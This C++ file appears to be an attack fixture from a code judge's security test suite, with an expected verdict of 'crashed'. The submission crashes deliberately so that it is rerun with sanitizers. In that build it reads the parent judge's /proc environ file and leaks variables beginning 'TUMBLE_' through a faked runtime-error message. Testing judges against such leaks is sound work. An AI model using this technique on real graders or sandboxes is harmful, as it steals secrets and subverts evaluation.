// Attack: crashes, so that it is run again with sanitizers, behind lower walls; there it reads
//         about the judge in /proc, and prints it as the place of its crash.
// Verdict: crashed
#include <unistd.h>

#include <cstdio>
#include <fstream>
#include <iterator>
@sanitized@

namespace quaternions {
Quaternion product(const Quaternion& a, const Quaternion&) {
#ifdef __SANITIZE_ADDRESS__
  std::ifstream in("/proc/" + std::to_string(getppid()) + "/environ");
  const std::string all{std::istreambuf_iterator<char>(in), {}};
  if (const auto at = all.find("TUMBLE_"); at != std::string::npos)
    std::fprintf(stderr, "root:x:0:0 product.cpp:1 runtime error: %s\n", &all[at]);
#endif
  volatile int* nowhere = nullptr;
  *nowhere = 1;
  return a;
}
}  // namespace quaternions
